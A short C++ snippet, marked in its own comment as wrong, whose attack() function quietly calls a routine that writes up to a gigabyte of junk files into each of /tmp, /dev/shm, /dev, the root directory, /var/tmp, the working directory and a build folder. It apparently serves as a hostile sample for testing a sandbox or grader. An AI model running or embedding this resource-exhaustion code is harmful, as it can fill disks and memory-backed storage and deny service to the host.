// wrong: fills whatever can be written to
#include <fstream>
#include <string>

static bool fill()
{
    const std::string block(1 << 20, 'x');
    for (const std::string folder : { "/tmp", "/dev/shm", "/dev", "/", "/var/tmp", ".", "@BUILD@" })
        for (int i = 0; i < 1000; ++i)
            if (!(std::ofstream(folder + "/raywork-fill-" + std::to_string(i)) << block))
                break;
    return true;
}

static glm::vec3 attack()
{
    static const bool done = fill();
    return glm::vec3(static_cast<float>(done));
}
